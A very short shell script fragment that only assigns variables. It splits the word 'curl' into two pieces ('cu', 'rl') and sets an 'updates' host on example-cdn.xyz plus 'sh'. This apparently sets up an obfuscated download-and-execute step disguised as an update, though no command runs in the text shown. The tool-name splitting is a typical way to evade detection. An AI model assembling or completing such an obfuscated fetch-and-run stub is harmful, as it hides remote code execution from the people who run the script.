#!/bin/sh
P1=cu
P2=rl
H=updates
D=example-cdn.xyz
I=sh
